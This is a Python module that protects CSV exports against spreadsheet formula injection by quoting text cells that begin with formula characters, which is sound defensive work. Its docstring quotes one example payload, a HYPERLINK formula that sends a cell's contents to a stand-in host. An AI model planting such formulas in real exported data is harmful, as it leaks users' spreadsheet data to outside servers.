"""CSV written for people to open in a spreadsheet: no cell can run as a formula.

Quarantined rows and query results hold text from outside (an export, an API). A cell such
as `=HYPERLINK("http://x/?"&A1, "click")` opened in Excel or LibreOffice is a formula, not
text (CSV injection, OWASP). `neutralise` prefixes every text cell that starts with `=`,
`+`, `-`, `@`, a tab or a carriage return with a single quote, which spreadsheets show as
text; numbers (-5 in a numeric column) are left alone.
"""

from __future__ import annotations

from typing import TextIO

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(value: object) -> object:
    """`value` as a spreadsheet will show it as text (only text is changed)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells cannot start a formula (vectorised per column)."""
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype != object and not pd.api.types.is_string_dtype(column):
            continue
        # .str on an object column: NaN for what is not text (numbers, dicts, None).
        risky = column.str.startswith(FORMULA_STARTS).astype("boolean").fillna(False).to_numpy(dtype=bool)
        if risky.any():
            out[name] = column.where(~risky, "'" + column.where(risky, "").astype(str))
    return out


def write_csv(frame: pd.DataFrame, stream: TextIO) -> None:
    """`frame` as CSV with a header row, formula cells neutralised."""
    neutralise(frame).to_csv(stream, index=False)
